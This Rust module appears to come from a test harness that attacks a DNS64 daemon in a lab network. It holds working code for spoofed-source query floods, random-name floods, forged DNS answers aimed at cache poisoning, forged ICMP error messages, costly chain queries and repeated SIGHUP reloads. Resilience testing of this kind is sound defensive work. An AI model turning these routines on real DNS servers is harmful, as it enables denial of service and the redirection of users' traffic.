//! Attacks by datagrams.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use dns64::wire::rtype;
use record::random::Sequence;

use crate::crew::Turn;
use crate::site::{ASKS_FROM, AUTH, CHAINS, SERVER, network, victim_server, victim_zone};
use crate::stage::{FALSE, read_frame, write_frame};
use crate::wire::{Raw, address, draw, name, query};

/// Packets between two looks at the clock.
const ROUND: u64 = 256;
/// Between two messages of ICMP.
const ICMP_EACH: Duration = Duration::from_micros(100);
/// Between two questions for a chain.
const CHAIN_EACH: Duration = Duration::from_millis(2);
/// Between two reloads.
const RELOAD_EACH: Duration = Duration::from_secs(5);
/// SIGHUP.
const HANGUP: i32 = 1;
/// How long an answer is waited for.
const PATIENCE: Duration = Duration::from_secs(6);

/// Queries from outside `allow`, from 65,536 ports of 256 addresses, as fast as the kernel takes them.
///
/// # Errors
/// No privileges.
pub fn strangers(turn: &Turn<'_>) -> io::Result<()> {
    names(turn, network::STRANGERS, crate::site::SUFFIX)
}

/// Names that do not exist, from an allowed network, likewise.
///
/// # Errors
/// No privileges.
pub fn random_names(turn: &Turn<'_>) -> io::Result<()> {
    names(turn, network::FLOOD, &victim_zone(0))
}

fn names(turn: &Turn<'_>, network: [u8; 3], zone: &str) -> io::Result<()> {
    const LABEL_AT: usize = 13;
    let (mut raw, mut numbers) = (Raw::open()?, Sequence::new(u64::from(network[2]), 0));
    let mut octets = query(0, &name(&format!("0000000000000000.{zone}"))?, rtype::AAAA);
    while turn.goes_on() {
        for _ in 0..ROUND {
            let from = SocketAddrV4::new(
                network::host(network, draw(&mut numbers) as u8),
                draw(&mut numbers).max(1024),
            );
            octets[..2].copy_from_slice(&draw(&mut numbers).to_be_bytes());
            octets[LABEL_AT..LABEL_AT + 16].copy_from_slice(format!("{:016x}", numbers.bits()).as_bytes());
            raw.udp(from, SERVER, &octets);
        }
        turn.add(ROUND);
    }
    Ok(())
}

/// Forged answers to the question that is asked, with any ID to any port.
///
/// # Errors
/// No privileges.
pub fn forge(turn: &Turn<'_>) -> io::Result<()> {
    forge_to(turn, |numbers| draw(numbers).max(1024))
}

/// Forged answers with any ID to a port that `port` draws.
///
/// # Errors
/// No privileges.
pub fn forge_to(turn: &Turn<'_>, port: impl Fn(&mut Sequence) -> u16) -> io::Result<()> {
    let (mut raw, mut numbers) = (Raw::open()?, Sequence::new(1, 1));
    while turn.goes_on() {
        let open = turn.shared.seen.open();
        let question = turn.shared.question();
        let asked = query(0, &name(&question.name)?, rtype::A);
        let mut octets = address(&asked, FALSE).unwrap_or_default();
        for _ in 0..ROUND {
            octets[..2].copy_from_slice(&draw(&mut numbers).to_be_bytes());
            raw.udp(question.server, SocketAddrV4::new(ASKS_FROM, port(&mut numbers)), &octets);
        }
        turn.add(ROUND);
        // A round in which the query ended, or another one came, does not count.
        if open != 0 && turn.shared.seen.open() == open {
            turn.shared.met.fetch_add(ROUND, Ordering::Relaxed);
        }
    }
    Ok(())
}

/// Asks one name after the other while answers to it are forged, and looks whether a forged one came.
///
/// # Errors
/// No socket.
pub fn ask_what_is_forged(turn: &Turn<'_>) -> io::Result<()> {
    let socket = UdpSocket::bind((network::host(network::FORGER, 1), 0))?;
    socket.set_read_timeout(Some(Duration::from_millis(100)))?;
    while turn.goes_on() {
        let question = turn.shared.seen.question(turn.done());
        turn.shared.ask(&question);
        let asked = query(turn.done() as u16, &name(&question.name)?, rtype::A);
        socket.send_to(&asked, SERVER)?;
        if let Some(answer) = answer_to(turn, &socket, &asked) {
            turn.shared.answered.fetch_add(1, Ordering::Relaxed);
            let taken = answer.windows(4).any(|octets| octets == FALSE.octets());
            turn.shared.taken.fetch_add(u64::from(taken), Ordering::Relaxed);
        }
        turn.shared.seen.close();
        turn.add(1);
    }
    Ok(())
}

/// The answer with the query's ID, if one comes.
fn answer_to(turn: &Turn<'_>, socket: &UdpSocket, asked: &[u8]) -> Option<Vec<u8>> {
    let (begun, mut octets) = (Instant::now(), [0; 4096]);
    while turn.goes_on() && begun.elapsed() < PATIENCE {
        match socket.recv_from(&mut octets) {
            Ok((length, from)) if from == SocketAddr::V4(SERVER) && octets[..2] == asked[..2] => {
                return Some(octets[..length].to_vec());
            }
            _ => {}
        }
    }
    None
}

/// Forged ICMP messages about datagrams of dns64d: closed ports and a small MTU, of every upstream server.
///
/// # Errors
/// No privileges.
pub fn icmp(turn: &Turn<'_>) -> io::Result<()> {
    const PORT_UNREACHABLE: [u8; 2] = [3, 3];
    const FRAGMENTATION_NEEDED: [u8; 2] = [3, 4];
    const MTU: u32 = 576;
    let (mut raw, mut numbers, begun) = (Raw::open()?, Sequence::new(1, 2), Instant::now());
    while turn.goes_on() {
        for server in [AUTH, victim_server(0)] {
            let from = SocketAddrV4::new(ASKS_FROM, draw(&mut numbers).max(1024));
            raw.icmp(PORT_UNREACHABLE, 0, (from, server), *AUTH.ip());
            raw.icmp(FRAGMENTATION_NEEDED, MTU, (from, server), *AUTH.ip());
        }
        turn.add(4);
        turn.pace(begun, ICMP_EACH);
    }
    Ok(())
}

/// Asks for a costly chain out of the cache, over UDP and over TCP in turn.
///
/// # Errors
/// No socket.
pub fn chains(turn: &Turn<'_>) -> io::Result<()> {
    let from = network::host(network::CHAINS, 1);
    let asked = query(7, &name(&format!("{}{CHAINS}", "a.".repeat(115)))?, rtype::AAAA);
    let udp = UdpSocket::bind((from, 0))?;
    let begun = Instant::now();
    let mut stream = None;
    while turn.goes_on() {
        // What comes back is of no interest, and a connection may be ended for another client at any time.
        let _ = udp.send_to(&asked, SERVER);
        if stream.is_none() {
            stream = connect(from).ok();
        }
        if let Some(open) = &mut stream
            && write_frame(open, &asked).and_then(|()| read_frame(open)).is_err()
        {
            stream = None;
        }
        turn.add(2);
        turn.pace(begun, CHAIN_EACH);
    }
    Ok(())
}

/// A connection to dns64d from an address.
///
/// # Errors
/// It is refused or reset.
pub fn connect(from: Ipv4Addr) -> io::Result<std::net::TcpStream> {
    connect_to(from, SERVER)
}

/// The same to another of its addresses.
///
/// # Errors
/// It is refused or reset.
pub fn connect_to(from: Ipv4Addr, to: SocketAddrV4) -> io::Result<std::net::TcpStream> {
    use socket2::{Domain, SockAddr, Socket, Type};
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&SockAddr::from(SocketAddrV4::new(from, 0)))?;
    socket.connect_timeout(&SockAddr::from(to), Duration::from_secs(1))?;
    let stream: std::net::TcpStream = socket.into();
    stream.set_read_timeout(Some(Duration::from_millis(500)))?;
    stream.set_write_timeout(Some(Duration::from_millis(500)))?;
    Ok(stream)
}

/// Has dns64d read its configuration again, all the time.
///
/// # Errors
/// dns64d has ended.
pub fn reload(turn: &Turn<'_>) -> io::Result<()> {
    let begun = Instant::now();
    while turn.goes_on() {
        sys::process::signal(turn.shared.pid, HANGUP)?;
        turn.add(1);
        turn.pace(begun, RELOAD_EACH);
    }
    Ok(())
}
